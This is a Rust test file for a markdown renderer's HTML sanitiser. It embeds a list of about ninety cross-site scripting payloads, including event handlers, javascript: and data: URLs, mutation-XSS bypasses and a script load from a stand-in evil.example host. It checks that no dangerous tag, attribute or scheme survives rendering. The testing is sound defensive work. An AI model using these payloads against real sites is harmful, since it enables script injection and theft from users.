//! Scripts smuggled in by every way a text offers.

use super::{RenderOptions, attributes, render, tags};
use crate::markdown::sanitize::{self, SanitizeOptions};

/// After the OWASP and PortSwigger cheat sheets, and published bypasses of sanitisers.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script >",
    "<script/src=data:,alert(1)>",
    "<<script>alert(1);//<</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=`x` onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=\"x\" alt=\"`onerror=alert(1)\">",
    "<img src=x:x onerror=\"&#97;lert(1)\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<svg><iframe><a title=\"</iframe><img src onerror=alert(1)>\">",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"java&#1;script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a onmouseover=alert(1) href=#>x</a>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<isindex action=javascript:alert(1) type=image>",
    "<frameset onload=alert(1)>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml ?><img src=x onerror=alert(1)>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<a id=\"\" onclick=alert(1) id=x>y</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(document&period;cookie)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "vbscript:msgbox(1)",
    "//evil.example/\" onmouseover=\"alert(1)",
    "x\" onerror=\"alert(1)",
    "x' onerror='alert(1)",
    "x) onerror=alert(1)",
    "\"><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "</h1><script>alert(1)</script>",
    "\u{0}<script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
];

/// The places in a text where `vector` may stand.
fn placed(vector: &str) -> Vec<String> {
    let templates = [
        "@",
        "a @ b",
        "- @",
        "> @",
        "# @",
        "@\n===",
        "| a |\n|---|\n| @ |",
        "[x](@)",
        "[x](<@>)",
        "[x](/y \"@\")",
        "[x](/y '@')",
        "![x](@)",
        "![@](y)",
        "![x](/y \"@\")",
        "[@](/y)",
        "<@>",
        "[x]\n\n[x]: @",
        "[x]\n\n[x]: <@>\n  \"@\"",
        "[^1]\n\n[^1]: @",
        "[^@]\n\n[^@]: x",
        "# x {#@}",
        "# x {.@}",
        "# x {id=\"@\"}",
        "# x {class='@'}",
        "a\n{onclick=\"@\"}",
        "```@\nx\n```",
        "``` x @\ny\n```",
        "`@`",
        "    @",
        "@\n: @",
        "**@**",
        "~~@~~",
        "<div>\n@\n</div>",
        "<div>\n\n@\n\n</div>",
        "<b title=\"@\">x</b>",
        "<p class='@'>\n",
        "<a href=\"@\">x</a>",
        "<img src='@'>",
        "<!-- @ -->",
        "http://a.b/@",
        "www.a.b/@",
        "@@a.b",
        ":@:",
        "<svg>@</svg>",
        "<table>@",
        "<select>@",
        "<math>@",
        "<style>@</style>",
        "<textarea>@",
        "<pre>\n@",
        "<p>@<p>@",
        "&lt;@",
        "\\@",
    ];
    templates.iter().map(|template| template.replace('@', vector)).collect()
}

const ATTRIBUTES: &[&str] = &[
    "abbr",
    "align",
    "allowfullscreen",
    "alt",
    "checked",
    "class",
    "colspan",
    "datetime",
    "decoding",
    "dir",
    "disabled",
    "height",
    "href",
    "hreflang",
    "id",
    "lang",
    "loading",
    "name",
    "open",
    "rel",
    "reversed",
    "role",
    "rowspan",
    "scope",
    "src",
    "start",
    "title",
    "type",
    "value",
    "width",
];

const ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "hr",
    "img",
    "input",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

fn assert_harmless(html: &str, source: &str) {
    let lower = html.to_ascii_lowercase();
    for tag in tags(&lower) {
        let name = tag.trim_start_matches('/').split(' ').next().unwrap_or_default();
        assert!(ELEMENTS.contains(&name), "<{tag}> from {source:?}\n{html}");
        assert_eq!(tag.matches('"').count() % 2, 0, "<{tag}> from {source:?}\n{html}");
        for (name, value) in attributes(tag) {
            assert!(ATTRIBUTES.contains(&name), "{name} in <{tag}> from {source:?}\n{html}");
            if matches!(name, "href" | "src") {
                let visible: String = value.chars().filter(|c| *c > ' ').collect();
                let scheme = visible.split_once(':').map_or("%", |(scheme, _)| scheme);
                let relative = scheme.contains(|c: char| !c.is_ascii_alphanumeric() && !"+-.".contains(c));
                assert!(
                    relative || ["http:", "https:", "mailto:", "tel:"].iter().any(|s| visible.starts_with(s)),
                    "{value} from {source:?}\n{html}"
                );
            }
        }
    }
}

#[test]
fn no_way_into_a_text_lets_a_script_through() {
    for vector in VECTORS {
        for source in placed(vector) {
            for unsafe_html in [true, false] {
                let options = RenderOptions { unsafe_html, ..RenderOptions::default() };
                let body = render(&source, &options).unwrap();
                assert_harmless(&body.html, &source);
                let again = sanitize::html(&body.html, SanitizeOptions::default()).unwrap();
                assert_eq!(super::without_ids(&again), super::without_ids(&body.html), "{source:?}");
            }
        }
    }
}

#[test]
fn the_sanitiser_alone_lets_no_script_through() {
    for vector in VECTORS {
        for source in placed(vector) {
            let once = sanitize::html(&source, SanitizeOptions::default()).unwrap();
            assert_harmless(&once, &source);
            assert_eq!(sanitize::html(&once, SanitizeOptions::default()).unwrap(), once, "{source:?}");
        }
    }
}

#[test]
fn no_raw_script_or_handler_is_left_anywhere() {
    // Vectors written as HTML, where no part of them may survive as text either.
    for vector in VECTORS.iter().filter(|vector| vector.starts_with("<img") || vector.starts_with("<a ")) {
        let html = render(vector, &RenderOptions::default()).unwrap().html;
        for part in ["<script", "javascript:", "onerror="] {
            let in_tags: Vec<&str> =
                tags(&html).filter(|tag| tag.contains(part) && !tag.contains("alt=")).collect();
            assert!(in_tags.is_empty(), "{vector:?} gives {html}");
        }
    }
}
